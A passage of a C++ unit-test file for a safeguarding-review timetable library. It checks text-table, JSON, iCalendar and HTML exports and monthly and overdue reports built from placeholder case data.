TEST(report_text, a_text_table_is_the_aligned_table_and_its_pieces_are_whole_lines) {
  std::vector<std::vector<std::string>> rows{{"NAME", "AGENCY", "NOTE"}};
  for (int i = 0; i < 500; ++i) {
    rows.push_back({"Zoë " + std::to_string(i), std::string(static_cast<std::size_t>(i % 17), 'a') + "’s",
                    i % 3 == 0 ? std::string() : "note " + std::to_string(i * i)});
  }
  rows.push_back({"short row"});
  rows.push_back({"\x1b[31mred\x1b[0m", "x", "trailing  "});
  scr::text_table t;
  for (const auto& r : rows) {
    for (const auto& c : r) t.cell(c);
    t.end_row();
  }
  EXPECT_EQ(t.rows(), rows.size());
  const auto whole = plainly_aligned(rows);
  EXPECT_EQ(t.str(), whole);
  EXPECT_EQ(scr::aligned_table(rows), whole);
  // Widths 9 ("short row") and 18 ("aaaaaaaaaaaaaaaa’s"); colour takes none; the last cell's spaces trimmed.
  EXPECT_EQ(whole.substr(whole.rfind("short row")), "short row\n\x1b[31mred\x1b[0m        x                   trailing\n");
  for (const std::size_t piece : {std::size_t{1}, std::size_t{100}, std::size_t{4096}}) {
    std::vector<std::string> pieces;
    t.write([&](std::string_view p) { pieces.emplace_back(p); }, piece);
    std::string joined;
    std::size_t longest_line = 0;
    for (const auto& line : split(whole, "\n")) longest_line = std::max(longest_line, line.size() + 1);
    for (const auto& p : pieces) {
      joined += p;
      EXPECT_EQ(p.back(), '\n') << "a piece that is not whole lines, of " << piece;
      EXPECT_LT(p.size(), piece + longest_line) << "a piece longer than asked, of " << piece;
    }
    EXPECT_EQ(joined, whole) << "pieces of " << piece;
    if (piece == 1) {
      EXPECT_EQ(pieces.size(), rows.size());
    }
  }
  // Nothing written for no rows.
  scr::text_table none;
  std::size_t calls = 0;
  none.write([&](std::string_view) { ++calls; });
  EXPECT_EQ(calls, 0U);
  EXPECT_EQ(none.str(), "");
}

// due_items_text is the heading and one added row an item.
TEST(report_text, due_items_text_is_the_table_made_an_item_at_a_time) {
  const std::vector<scr::due_item> items{
      {"Child Q", "milestone", "decision", "", "Decide", "lscb_chair", 1, ymd(2024, 2, 15), 3},
      {"Child Q", "obligation", "monthly_update", "Police", "Update", "panel_chair", 2, ymd(2024, 2, 16), 2}};
  for (const bool late : {false, true}) {
    for (const bool colour : {false, true}) {
      auto t = scr::due_items_table(late);
      for (const auto& i : items) scr::add_due_item_row(t, i, late, colour);
      EXPECT_EQ(t.str(), scr::due_items_text(items, late, colour));
    }
  }
  EXPECT_EQ(scr::due_items_table(true).str(), "DUE  OVERDUE  REFERENCE  ITEM  AGENCY  OWNER  TITLE\n");
  EXPECT_EQ(scr::due_items_table(false).str(), "DUE  REFERENCE  ITEM  AGENCY  OWNER  TITLE\n");
}

TEST(report_text, timetable_text_shows_the_heading_and_the_statuses) {
  const auto text = scr::timetable_text(extended(), ymd(2024, 3, 31));
  EXPECT_EQ(text.substr(0, text.find('\n')), "Child Q (solihull-2011-scr version 4), as of 2024-03-31: state scoping");
  EXPECT_NE(text.find("extended (was 2024-08-01)"), std::string::npos) << text;
  EXPECT_NE(text.find("met late by 3 days"), std::string::npos) << text;
  EXPECT_NE(text.find("2024-06-26 (projected)"), std::string::npos) << text;
  EXPECT_NE(text.find("\nMILESTONE "), std::string::npos) << text;
  EXPECT_NE(text.find("\nOBLIGATION "), std::string::npos) << text;
  EXPECT_NE(text.find("monthly_progress_update #2"), std::string::npos) << text;
  EXPECT_NE(scr::timetable_text(opened(), ymd(2024, 2, 16)).find("overdue by 1 day "), std::string::npos);
}

// Text without its ANSI colour sequences (ESC [ ... m).
std::string strip_ansi(std::string_view s) {
  std::string out;
  for (std::size_t i = 0; i < s.size(); ++i) {
    if (s[i] == '\x1b' && i + 1 < s.size() && s[i + 1] == '[') {
      while (i < s.size() && s[i] != 'm') ++i;
      continue;
    }
    out += s[i];
  }
  return out;
}

TEST(report_text, colour_sequences_take_no_width) {
  EXPECT_EQ(scr::aligned_table({{"\x1b[31mred\x1b[0m", "x"}, {"green", "y"}}), "\x1b[31mred\x1b[0m    x\ngreen  y\n");
  // Coloured, the same table once the colours are taken out.
  const auto r = opened();
  const auto plain = scr::timetable_text(r, ymd(2024, 2, 16));
  const auto coloured = scr::timetable_text(r, ymd(2024, 2, 16), true);
  EXPECT_EQ(plain.find('\x1b'), std::string::npos);
  EXPECT_NE(coloured.find("\x1b[31moverdue by 1 day\x1b[0m"), std::string::npos) << coloured;
  EXPECT_NE(coloured.find("\x1b[32mmet\x1b[0m"), std::string::npos) << coloured;
  EXPECT_EQ(strip_ansi(coloured), plain);
  EXPECT_EQ(scr::export_timetable(r, ymd(2024, 2, 16), scr::export_format::text), plain);
}

// ---- JSON -------------------------------------------------------------------------

TEST(report_json, timetable_json_follows_the_schema) {
  const auto r = extended();
  const auto as_of = ymd(2024, 3, 31);
  const auto doc = json::parse(scr::timetable_json(r, as_of));
  EXPECT_EQ(doc["schema"], "libscr.timetable");
  EXPECT_EQ(doc["version"].get<int>(), scr::json_schema_version);
  EXPECT_EQ(doc["reference"], "Child Q");
  EXPECT_EQ(doc["procedure"]["id"], "solihull-2011-scr");
  EXPECT_EQ(doc["procedure"]["version"].get<int>(), 4);
  // The calendar by its id, as the procedure names it.
  EXPECT_EQ(doc["calendar"], "england-and-wales");
  EXPECT_EQ(doc["calendar"].get<std::string>(), r.definition().calendar_name());
  EXPECT_EQ(doc["as_of"], "2024-03-31");
  EXPECT_EQ(doc["state"], "scoping");
  EXPECT_EQ(doc["closed"], false);
  EXPECT_EQ(doc["on_hold"], false);
  const auto entries = scr::timetable_entries(r, as_of);
  ASSERT_TRUE(doc["entries"].is_array());
  ASSERT_EQ(doc["entries"].size(), entries.size());
  ASSERT_EQ(entries.size(), 23u);
  for (std::size_t i = 0; i < entries.size(); ++i) {
    const auto& j = doc["entries"][i];
    EXPECT_EQ(j["kind"].get<std::string>(), entries[i].kind);
    EXPECT_EQ(j["item"].get<std::string>(), entries[i].id);
    EXPECT_EQ(j["uid"].get<std::string>(), entries[i].uid);
    EXPECT_EQ(j["occurrence"].get<int>(), entries[i].occurrence);
    EXPECT_EQ(j["due"].is_null(), !entries[i].due.has_value()) << entries[i].id;
  }
  const auto find = [&](std::string_view id) -> const json& {
    for (const auto& j : doc["entries"]) {
      if (j["item"].get<std::string>() == id && j["agency"] == "") return j;
    }
    ADD_FAILURE() << "no entry " << id;
    static const json none;
    return none;
  };
  // 001:216: six months from the decision of 1 February: 1 August, extended to 1 October.
  const auto& completion = find("completion");
  EXPECT_EQ(completion["status"], "extended");
  EXPECT_EQ(completion["due"], "2024-10-01");
  EXPECT_EQ(completion["original_due"], "2024-08-01");
  EXPECT_EQ(completion["extended_to"], "2024-10-01");
  EXPECT_EQ(completion["anchor_date"], "2024-02-01");
  EXPECT_TRUE(completion["completed_at"].is_null());
  EXPECT_TRUE(completion["due_at"].is_null());
  EXPECT_EQ(completion["statutory"], true);
  EXPECT_EQ(completion["days_late"].get<int>(), 0);
  EXPECT_EQ(completion["cite"], json::array({"001:216", "001:221", "001:393", "001:394"}));
  // Absent dates are null, not empty strings.
  const auto& meeting = find("presentation_meeting");
  for (const char* field : {"due", "due_at", "original_due", "extended_to", "anchor_date", "completed_at"}) {
    EXPECT_TRUE(meeting[field].is_null()) << field << ": " << meeting[field].dump();
  }
  const auto& decision = find("decision");
  EXPECT_EQ(decision["due"], "2024-02-15");
  EXPECT_TRUE(decision["original_due"].is_null());
  EXPECT_TRUE(decision["extended_to"].is_null());
  EXPECT_EQ(decision["completed_at"], "2024-02-01T10:00:00Z");
  EXPECT_EQ(find("referral_form")["due_at"], "2024-01-16T22:00:00Z");
}

// ---- iCalendar --------------------------------------------------------------------

// Checks the physical lines: each ends with CRLF, none is longer than 75
// octets, none begins or ends inside a UTF-8 sequence. Returns how many are
// continuation lines.
std::size_t check_ics_lines(const std::string& ics) {
  EXPECT_GE(ics.size(), 2u);
  EXPECT_EQ(ics.substr(ics.size() - 2), "\r\n");
  auto lines = split(ics, "\r\n");
  EXPECT_EQ(lines.back(), "");
  lines.pop_back();
  std::size_t folded = 0;
  for (const auto& line : lines) {
    EXPECT_EQ(line.find_first_of("\r\n"), std::string::npos) << "a bare CR or LF in: " << line;
    EXPECT_LE(line.size(), 75u) << line;
    EXPECT_TRUE(whole_utf8(line)) << "a UTF-8 sequence split at a fold: " << line;
    if (!line.empty() && line[0] == ' ') ++folded;
  }
  return folded;
}

TEST(report_ics, lines_end_with_crlf_and_fold_at_75_octets_between_utf8_sequences) {
  std::string reference;
  for (int i = 0; i < 6; ++i) reference += "Ærø Østergård Ünïcødé ";
  reference += "end";
  ASSERT_LE(reference.size(), 200u);
  const auto r = extended(reference);
  const auto as_of = ymd(2024, 3, 31);
  const std::string ics = scr::timetable_ics(r, as_of);
  EXPECT_GT(check_ics_lines(ics), 18u) << "the long SUMMARY lines should fold";
  // Some folds had to move back a byte to keep a character whole: a line
  // followed by a continuation but shorter than the full 75 octets.
  const auto physical = split(ics, "\r\n");
  std::size_t moved = 0;
  for (std::size_t i = 0; i + 1 < physical.size(); ++i) {
    if (!physical[i + 1].empty() && physical[i + 1][0] == ' ' && physical[i].size() < 75) ++moved;
  }
  EXPECT_GT(moved, 0u);
  // Unfolding gives back the text whole.
  const auto lines = split(unfold(ics), "\r\n");
  EXPECT_NE(std::find(lines.begin(), lines.end(), "X-WR-CALNAME:" + reference + " timetable"), lines.end());
  const auto events = vevents(ics);
  const auto entries = scr::timetable_entries(r, as_of);
  const auto decision = event_for(events, entry_of(entries, "milestone", "decision"));
  EXPECT_EQ(property(decision, "SUMMARY"),
            reference + ": Decision whether to hold a Serious Case Review (Working Together 8.22)");
  const auto reply = event_for(events, entry_of(entries, "milestone", "reply", "Health"));
  EXPECT_EQ(property(reply, "SUMMARY"),
            reference + ": Written reply\\, or NIL return\\, within 3 working days (Health)");
  const auto second = event_for(events, entry_of(entries, "obligation", "monthly_progress_update", "", 2));
  EXPECT_EQ(property(second, "SUMMARY"),
            reference + ": Monthly update to the LSCB Chair on progress and planned completion dates #2");

  // A line of exactly 75 octets is not folded; one of 76 is:
  // "X-WR-CALNAME:" (13) + the reference + " timetable" (10).
  for (const std::size_t size : {std::size_t{52}, std::size_t{53}}) {
    const std::string ref(size, 'x');
    const std::string calname = "X-WR-CALNAME:" + ref + " timetable";
    const std::string out = scr::timetable_ics(opened(ref), as_of);
    if (size == 52) {
      EXPECT_NE(out.find("\r\n" + calname + "\r\n"), std::string::npos) << out.substr(0, 300);
    } else {
      EXPECT_NE(out.find("\r\n" + calname.substr(0, 75) + "\r\n " + calname.substr(75) + "\r\n"), std::string::npos)
          << out.substr(0, 300);
    }
  }
}

TEST(report_ics, one_vevent_per_dated_entry_with_its_dates) {
  const auto r = extended();
  const auto as_of = ymd(2024, 3, 31);
  const std::string ics = scr::timetable_ics(r, as_of);
  check_ics_lines(ics);
  const auto lines = split(unfold(ics), "\r\n");
  ASSERT_GE(lines.size(), 3u);
  EXPECT_EQ(lines.front(), "BEGIN:VCALENDAR");
  EXPECT_EQ(lines[lines.size() - 2], "END:VCALENDAR");
  EXPECT_NE(std::find(lines.begin(), lines.end(), "VERSION:2.0"), lines.end());
  const auto entries = scr::timetable_entries(r, as_of);
  std::size_t dated = 0;
  for (const auto& e : entries) dated += e.due ? 1u : 0u;
  // 13 of the 16 milestones have a date (not reconsideration, the presentation
  // meeting or the circulation before it); 5 of the 7 obligations.
  EXPECT_EQ(dated, 18u);
  const auto events = vevents(ics);
  ASSERT_EQ(events.size(), dated);
  EXPECT_EQ(count_of(ics, "BEGIN:VEVENT"), dated);
  EXPECT_EQ(count_of(ics, "END:VEVENT"), dated);
  ASSERT_EQ(r.size(), 10u);
  std::set<std::string> uids;
  for (const auto& ev : events) {
    EXPECT_EQ(property(ev, "SEQUENCE"), "10");
    // The last event: the extension at 10:00 on 20 March (GMT).
    EXPECT_EQ(property(ev, "DTSTAMP"), "20240320T100000Z");
    EXPECT_EQ(property(ev, "STATUS"), "CONFIRMED");
    uids.insert(property(ev, "UID"));
  }
  EXPECT_EQ(uids.size(), dated);
  for (const auto& e : entries) {
    if (e.due) EXPECT_EQ(uids.count(e.uid), 1u) << e.id;
    else EXPECT_EQ(uids.count(e.uid), 0u) << e.id;
  }
  // 001:851: the decision, all day on 15 February.
  const auto decision = event_for(events, entry_of(entries, "milestone", "decision"));
  EXPECT_NE(std::find(decision.begin(), decision.end(), "DTSTART;VALUE=DATE:20240215"), decision.end());
  EXPECT_NE(std::find(decision.begin(), decision.end(), "DTEND;VALUE=DATE:20240216"), decision.end());
  EXPECT_EQ(property(decision, "CATEGORIES"), "milestone,met");
  // 001:735: the referral form, 72 hours after 13 January 22:00 UTC.
  const auto form = event_for(events, entry_of(entries, "milestone", "referral_form"));
  EXPECT_NE(std::find(form.begin(), form.end(), "DTSTART:20240116T220000Z"), form.end());
  EXPECT_NE(std::find(form.begin(), form.end(), "DURATION:PT1H"), form.end());
  // The extended completion on 1 October.
  const auto completion = event_for(events, entry_of(entries, "milestone", "completion"));
  EXPECT_NE(std::find(completion.begin(), completion.end(), "DTSTART;VALUE=DATE:20241001"), completion.end());
  EXPECT_NE(property(completion, "DESCRIPTION").find("extended (was 2024-08-01)"), std::string::npos);
  EXPECT_EQ(property(completion, "SUMMARY"),
            "Child Q: Serious Case Review completed and submitted to Ofsted\\, the SHA and the DfE");
  // Another event adds one to every SEQUENCE.
  auto later = extended();
  later.discharge("decision_notice", london(2024, 4, 2), nominated);
  for (const auto& ev : vevents(scr::timetable_ics(later, as_of))) EXPECT_EQ(property(ev, "SEQUENCE"), "11");
}

TEST(report_ics, text_is_escaped) {
  // A reference is one line; line breaks are escaped in the description below.
  const std::string reference = "Child Q, Solihull; case\\7";
  const std::string escaped = "Child Q\\, Solihull\\; case\\\\7";
  const auto r = decided(reference);
  const auto as_of = ymd(2024, 3, 1);
  const std::string ics = scr::timetable_ics(r, as_of);
  check_ics_lines(ics);
  const auto lines = split(unfold(ics), "\r\n");
  EXPECT_NE(std::find(lines.begin(), lines.end(), "X-WR-CALNAME:" + escaped + " timetable"), lines.end()) << ics;
  const auto events = vevents(ics);
  const auto entries = scr::timetable_entries(r, as_of);
  const auto decision = event_for(events, entry_of(entries, "milestone", "decision"));
  EXPECT_EQ(property(decision, "SUMMARY"),
            escaped + ": Decision whether to hold a Serious Case Review (Working Together 8.22)");
  // Line breaks in the description are \n; the sources are separated by "\, ".
  EXPECT_EQ(property(decision, "DESCRIPTION"),
            "Due 2024-02-15: 1 month after referral_received.\\nOwner: lscb_chair.\\nStatus as of 2024-03-01: "
            "met.\\nSource: 001:851\\, 001:392.");
}

TEST(report_ics, waived_entries_with_a_date_are_cancelled) {
  const auto r = not_held();
  const auto as_of = ymd(2024, 3, 31);
  const auto entries = scr::timetable_entries(r, as_of);
  std::size_t waived = 0;
  for (const auto& e : entries) waived += e.due && e.status == "waived" ? 1u : 0u;
  // appointments, terms_of_reference (5 February), imr_commissioning,
  // family_notification (12 February) and authors_briefing (26 February).
  ASSERT_EQ(waived, 5u);
  const auto events = vevents(scr::timetable_ics(r, as_of));
  std::size_t cancelled = 0;
  for (const auto& e : entries) {
    if (!e.due) continue;
    const auto ev = event_for(events, e);
    EXPECT_EQ(property(ev, "STATUS"), e.status == "waived" ? "CANCELLED" : "CONFIRMED") << e.id;
    cancelled += property(ev, "STATUS") == "CANCELLED" ? 1u : 0u;
  }
  EXPECT_EQ(cancelled, waived);
  EXPECT_EQ(property(event_for(events, entry_of(entries, "milestone", "appointments")), "CATEGORIES"),
            "milestone,waived");
}

// ---- HTML -------------------------------------------------------------------------

TEST(report_html, one_self_contained_page_with_a_chart_and_an_escaped_table) {
  const std::string reference = "Child <b>\"Q\"</b> & 'R'";
  const auto r = extended(reference);
  const auto as_of = ymd(2024, 3, 31);
  const std::string page = scr::timetable_html(r, as_of);
  EXPECT_EQ(page.rfind("<!DOCTYPE html>", 0), 0u);
  EXPECT_EQ(page.substr(page.size() - 8), "</html>\n");
  EXPECT_EQ(count_of(page, "<svg"), 1u);
  EXPECT_EQ(count_of(page, "</svg>"), 1u);
  EXPECT_EQ(count_of(page, "<table"), 2u);  // the timetable and the history
  EXPECT_EQ(count_of(page, "<table class=\"history\">"), 1u);
  // Nothing loaded from elsewhere.
  for (const char* outside : {"src=", "href=", "url(", "<script", "<link"}) {
    EXPECT_EQ(page.find(outside), std::string::npos) << outside;
  }
  // The reference is escaped, in the title and the heading, and never raw.
  EXPECT_EQ(page.find(reference), std::string::npos);
  EXPECT_EQ(page.find("<b>"), std::string::npos);
  EXPECT_EQ(count_of(page, "Child &lt;b&gt;&quot;Q&quot;&lt;/b&gt; &amp; &#39;R&#39;"), 2u);
  EXPECT_NE(page.find("<title>Timetable: Child &lt;b&gt;"), std::string::npos);
  // So are the procedure's texts.
  EXPECT_NE(page.find("IMR authors&#39; briefing (weeks 5-6)"), std::string::npos);
  EXPECT_EQ(page.find("IMR authors' briefing"), std::string::npos);
  // A header row and one row per entry; a header row and one row per event.
  const auto entries = scr::timetable_entries(r, as_of);
  EXPECT_EQ(count_of(page, "<tr"), entries.size() + 1 + r.history().size() + 1);
  EXPECT_EQ(count_of(page, "<tr class=\"extended\">"), 1u);
  EXPECT_NE(page.find("extended (was 2024-08-01)"), std::string::npos);
}

// ---- formats ----------------------------------------------------------------------

TEST(report_formats, names_parse_and_round_trip) {
  EXPECT_EQ(scr::parse_export_format("table"), scr::export_format::text);
  EXPECT_EQ(scr::parse_export_format("text"), scr::export_format::text);
  EXPECT_EQ(scr::parse_export_format("csv"), scr::export_format::csv);
  EXPECT_EQ(scr::parse_export_format("json"), scr::export_format::json);
  EXPECT_EQ(scr::parse_export_format("ics"), scr::export_format::ics);
  EXPECT_EQ(scr::parse_export_format("html"), scr::export_format::html);
  EXPECT_ERROR(scr::input_error, scr::parse_export_format("pdf"), "'pdf'", "table", "csv", "json", "ics", "html");
  EXPECT_ERROR(scr::input_error, scr::parse_export_format("CSV"), "'CSV'");
  EXPECT_ERROR(scr::input_error, scr::parse_export_format(""), "one of");
  EXPECT_EQ(scr::to_string(scr::export_format::text), "table");
  const auto r = extended();
  const auto as_of = ymd(2024, 3, 31);
  for (const auto f : {scr::export_format::text, scr::export_format::csv, scr::export_format::json,
                       scr::export_format::ics, scr::export_format::html}) {
    EXPECT_EQ(scr::parse_export_format(scr::to_string(f)), f) << scr::to_string(f);
  }
  EXPECT_EQ(scr::export_timetable(r, as_of, scr::export_format::text), scr::timetable_text(r, as_of));
  EXPECT_EQ(scr::export_timetable(r, as_of, scr::export_format::csv), scr::timetable_csv(r, as_of));
  EXPECT_EQ(scr::export_timetable(r, as_of, scr::export_format::json), scr::timetable_json(r, as_of));
  EXPECT_EQ(scr::export_timetable(r, as_of, scr::export_format::ics), scr::timetable_ics(r, as_of));
  EXPECT_EQ(scr::export_timetable(r, as_of, scr::export_format::html), scr::timetable_html(r, as_of));
}

// ---- across reviews ---------------------------------------------------------------

scr::store_options fixed_clock() {
  scr::store_options o;
  o.clock = [] { return utc(2024, 6, 1, 12); };
  return o;
}

// Child A: an SCR decided on 1 February 2024 and extended on 20 March to 1
// October. Child C: not held, decided (and closed) on 29 February 2024.
// Child D: referred on 2 April 2024.
scr::store three_reviews() {
  auto db = test_store(fixed_clock());
  const auto p = scr::procedure::builtin("solihull-2011-scr");
  for (const auto* ref : {"Child A", "Child C"}) {
    db.open_review(p, ref, london(2024, 1, 15, 9), chair, {{"incident_at", utc(2024, 1, 13, 22)}});
    db.record(ref, "panel_convened", london(2024, 1, 19), chair);
  }
  db.record("Child A", "panel_recommended", london(2024, 1, 29), chair, {{"recommendation", std::string("scr")}});
  db.record("Child A", "decision_made", london(2024, 2, 1), chair,
            {{"outcome", std::string("scr")}, {"reasons", std::string("criteria met")}});
  db.record("Child C", "panel_recommended", london(2024, 1, 29), chair, {{"recommendation", std::string("no_review")}});
  db.record("Child C", "decision_made", london(2024, 2, 29, 16), chair,
            {{"outcome", std::string("no_review")}, {"reasons", std::string("criteria not met")}});
  db.extend("Child A", "completion", ymd(2024, 10, 1), "Criminal trial listed for July", london(2024, 3, 20), lscb);
  db.open_review(p, "Child D", london(2024, 4, 2, 9), chair, {{"incident_at", utc(2024, 4, 1, 22)}});
  return db;
}

TEST(report_monthly, the_march_report_lists_the_open_review_and_its_slippage) {
  const auto db = three_reviews();
  const auto m = scr::monthly_progress(db, 2024, 3);
  EXPECT_EQ(m.year, 2024);
  EXPECT_EQ(m.month, 3);
  EXPECT_EQ(m.as_of, ymd(2024, 3, 31));
  // Child C closed on 29 February; Child D was referred in April.
  ASSERT_EQ(m.reviews.size(), 1u);
  const auto& a = m.reviews[0];
  EXPECT_EQ(a.reference, "Child A");
  EXPECT_EQ(a.procedure_id, "solihull-2011-scr");
  EXPECT_EQ(a.state, "scoping");
  EXPECT_EQ(a.stage, "Appointing the independent chair and author; scoping the terms of reference");
  EXPECT_FALSE(a.on_hold);
  // 001:216: six months from 1 February is 1 August; the LSCB agreed 1 October:
  // 31 days of August and 30 of September later.
  EXPECT_EQ(a.planned_completion, ymd(2024, 10, 1));
  EXPECT_EQ(a.original_completion, ymd(2024, 8, 1));
  EXPECT_FALSE(a.completion_projected);
  EXPECT_EQ(a.slippage_days, 61);
  // Nothing was done after the decision: the scoping steps (weeks 2-6) and
  // every notice are overdue; the monthly update of 1 March too (001:340).
  std::set<std::string> overdue;
  for (const auto& e : a.overdue) {
    EXPECT_EQ(e.status, "overdue") << e.id;
    overdue.insert(e.id);
  }
  EXPECT_EQ(overdue, (std::set<std::string>{"appointments", "terms_of_reference", "imr_commissioning",
                                            "family_notification", "authors_briefing", "chair_letter_to_agencies",
                                            "incident_notice", "decision_notice", "monthly_progress_update"}));
  // Every obligation is open: the three notices, the two monthly updates
  // triggered so far and the two notices of the extension.
  ASSERT_EQ(a.open_obligations.size(), 7u);
  for (const auto& e : a.open_obligations) EXPECT_EQ(e.kind, "obligation");
  EXPECT_TRUE(a.warnings.empty());

  const std::string text = scr::monthly_text(m);
  EXPECT_EQ(text.rfind("Monthly progress report, March 2024 (as of 2024-03-31): 1 open review\n", 0), 0u) << text;
  EXPECT_NE(text.find("Child A (solihull-2011-scr): Appointing the independent chair and author; scoping the terms "
                      "of reference [scoping]\n"),
            std::string::npos)
      << text;
  EXPECT_NE(text.find("  planned completion 2024-10-01, 61 days later than the original plan (2024-08-01)\n"),
            std::string::npos)
      << text;
  EXPECT_NE(text.find("    authors_briefing: IMR authors' briefing (weeks 5-6), due 2024-02-26, 34 days overdue "
                      "(panel_chair)\n"),
            std::string::npos)
      << text;
  EXPECT_NE(text.find("    monthly_progress_update #2: "), std::string::npos) << text;
  EXPECT_EQ(text.find("Child C"), std::string::npos);
  EXPECT_EQ(text.find("Child D"), std::string::npos);

  const auto doc = json::parse(scr::monthly_json(m));
  EXPECT_EQ(doc["schema"], "libscr.monthly_report");
  EXPECT_EQ(doc["version"].get<int>(), scr::json_schema_version);
  EXPECT_EQ(doc["month"], "2024-03");
  EXPECT_EQ(doc["as_of"], "2024-03-31");
  ASSERT_EQ(doc["reviews"].size(), 1u);
  const auto& j = doc["reviews"][0];
  EXPECT_EQ(j["reference"], "Child A");
  EXPECT_EQ(j["procedure_id"], "solihull-2011-scr");
  EXPECT_EQ(j["state"], "scoping");
  EXPECT_EQ(j["planned_completion"], "2024-10-01");
  EXPECT_EQ(j["original_completion"], "2024-08-01");
  EXPECT_EQ(j["completion_projected"], false);
  EXPECT_EQ(j["slippage_days"].get<int>(), 61);
  EXPECT_EQ(j["overdue"].size(), 9u);
  EXPECT_EQ(j["open_obligations"].size(), 7u);
  EXPECT_TRUE(j["warnings"].is_array());
  EXPECT_TRUE(j["open_obligations"][6]["due"].is_null());
}

TEST(report_monthly, each_month_lists_the_reviews_open_on_its_last_day) {
  const auto db = three_reviews();
  // January: both referrals, in the order opened, awaiting the decision; the
  // completion projected from the decision expected by week 3 (5 February,
  // 001:186-188) plus six months, with no slippage.
  const auto jan = scr::monthly_progress(db, 2024, 1);
  EXPECT_EQ(jan.as_of, ymd(2024, 1, 31));
  ASSERT_EQ(jan.reviews.size(), 2u);
  EXPECT_EQ(jan.reviews[0].reference, "Child A");
  EXPECT_EQ(jan.reviews[1].reference, "Child C");
  for (const auto& r : jan.reviews) {
    EXPECT_EQ(r.state, "awaiting_decision");
    EXPECT_EQ(r.planned_completion, ymd(2024, 8, 5));
    EXPECT_TRUE(r.completion_projected);
    EXPECT_EQ(r.slippage_days, 0);
  }
  const std::string text = scr::monthly_text(jan);
  EXPECT_EQ(text.rfind("Monthly progress report, January 2024 (as of 2024-01-31): 2 open reviews\n", 0), 0u) << text;
  EXPECT_NE(text.find("  planned completion 2024-08-05 (projected), as originally planned\n"), std::string::npos);
  // February (a leap year) ends on the 29th, the day Child C closed.
  const auto feb = scr::monthly_progress(db, 2024, 2);
  EXPECT_EQ(feb.as_of, ymd(2024, 2, 29));
  ASSERT_EQ(feb.reviews.size(), 1u);
  EXPECT_EQ(feb.reviews[0].reference, "Child A");
  // Child C closed that day: listed once, with what was outstanding when it
  // closed (its letter to agencies and its incident notice, due in January);
  // its decision notice goes on for two weeks after closure (001:186-189).
  ASSERT_EQ(feb.closed.size(), 1u);
  EXPECT_EQ(feb.closed[0].reference, "Child C");
  EXPECT_EQ(feb.closed[0].closed_on, ymd(2024, 2, 29));
  EXPECT_EQ(feb.closed[0].state, "not_held");
  std::set<std::string> outstanding;
  for (const auto& e : feb.closed[0].outstanding) outstanding.insert(e.id);
  EXPECT_EQ(outstanding, (std::set<std::string>{"chair_letter_to_agencies", "incident_notice"}));
  const std::string feb_text = scr::monthly_text(feb);
  EXPECT_NE(feb_text.find("\nClosed this month: 1\n\nChild C (solihull-2011-scr): closed 2024-02-29"), std::string::npos)
      << feb_text;
  EXPECT_NE(feb_text.find("  outstanding at closure:\n    chair_letter_to_agencies: "), std::string::npos) << feb_text;
  const auto feb_json = json::parse(scr::monthly_json(feb));
  ASSERT_EQ(feb_json["closed"].size(), 1u);
  EXPECT_EQ(feb_json["closed"][0]["closed_on"], "2024-02-29");
  EXPECT_EQ(feb_json["closed"][0]["outstanding"].size(), 2u);
  // In March it is not listed again.
  EXPECT_TRUE(scr::monthly_progress(db, 2024, 3).closed.empty());
  // April: Child A and the new referral.
  const auto apr = scr::monthly_progress(db, 2024, 4);
  ASSERT_EQ(apr.reviews.size(), 2u);
  EXPECT_EQ(apr.reviews[1].reference, "Child D");
  EXPECT_EQ(apr.reviews[1].state, "considering");
  // December 2023: nothing yet.
  const auto dec = scr::monthly_progress(db, 2023, 12);
  EXPECT_EQ(dec.as_of, ymd(2023, 12, 31));
  EXPECT_TRUE(dec.reviews.empty());
  EXPECT_EQ(scr::monthly_text(dec), "Monthly progress report, December 2023 (as of 2023-12-31): 0 open reviews\n");
  EXPECT_TRUE(json::parse(scr::monthly_json(dec))["reviews"].empty());
}

TEST(report_lists, due_items_as_text_csv_and_json) {
  const auto db = three_reviews();
  // Due before 1 March 2024: Child A's three notices (16 January, 001:348;
  // 22 January, 001:181; 5 February, 001:189) and its five scoping steps
  // (5 February x2, 12 February x2, 26 February; 001:186-203); Child C's
  // decision notice, which goes on for two weeks after the review closed on
  // 29 February (001:186-189). Child C's other two notices were outstanding
  // when it closed: listed in its closing summary, never overdue. Child D was
  // not yet referred.
  const auto items = db.overdue(ymd(2024, 3, 1));
  ASSERT_EQ(items.size(), 9u);

  const std::string text = scr::due_items_text(items, true);
  const auto lines = split(text, "\n");
  ASSERT_EQ(lines.size(), 11u);  // header, 9 items, "" after the last newline
  EXPECT_EQ(lines[0].rfind("DUE         OVERDUE  REFERENCE  ITEM ", 0), 0u) << lines[0];
  EXPECT_NE(lines[0].find("  AGENCY  OWNER "), std::string::npos) << lines[0];
  EXPECT_EQ(lines[0].substr(lines[0].size() - 7), "  TITLE");
  EXPECT_EQ(lines[1].rfind("2024-01-16  45 days  Child ", 0), 0u) << lines[1];
  EXPECT_EQ(lines[9].rfind("2024-02-26  4 days   Child A    authors_briefing ", 0), 0u) << lines[9];
  EXPECT_NE(lines[9].find("  -  "), std::string::npos) << "no agency is shown as -";
  // In colour, the days overdue are red, and the table is otherwise the same.
  const std::string coloured = scr::due_items_text(items, true, true);
  EXPECT_NE(coloured.find("\x1b[31m45 days\x1b[0m"), std::string::npos) << coloured;
  EXPECT_EQ(strip_ansi(coloured), text);
  const std::string plain = scr::due_items_text(items, false);
  EXPECT_EQ(plain.rfind("DUE         REFERENCE  ITEM ", 0), 0u) << plain;
  EXPECT_EQ(plain.find("OVERDUE"), std::string::npos);
  EXPECT_EQ(plain.find("45 days"), std::string::npos);
  // One day is "1 day".
  const std::string one = scr::due_items_text(db.overdue(ymd(2024, 2, 27)), true);
  EXPECT_NE(one.find("2024-02-26  1 day "), std::string::npos) << one;
  EXPECT_EQ(one.find("1 days"), std::string::npos) << one;
  // A repeating obligation's later occurrence is named with its number, and
  // a name wider than its column (in characters, not bytes) widens it.
  std::vector<scr::due_item> repeating = items;
  repeating.push_back({"Child Zoë", "obligation", "progress_update", "Police", "Quarterly update", "business_manager", 3,
                       ymd(2024, 2, 1), 29});
  const auto rows = split(scr::due_items_text(repeating, true), "\n");
  ASSERT_EQ(rows.size(), 12u);
  EXPECT_EQ(rows[10].rfind("2024-02-01  29 days  Child Zoë  progress_update #3 ", 0), 0u) << rows[10];
  // "ë" is two bytes and one character: Police starts under AGENCY.
  EXPECT_EQ(rows[10].find("Police") - 1, rows[0].find("AGENCY")) << rows[0] << "\n" << rows[10];
  EXPECT_EQ(rows[1].find("chair_letter"), rows[0].find("ITEM")) << rows[0] << "\n" << rows[1];

  const auto records = parse_csv(scr::due_items_csv(items));
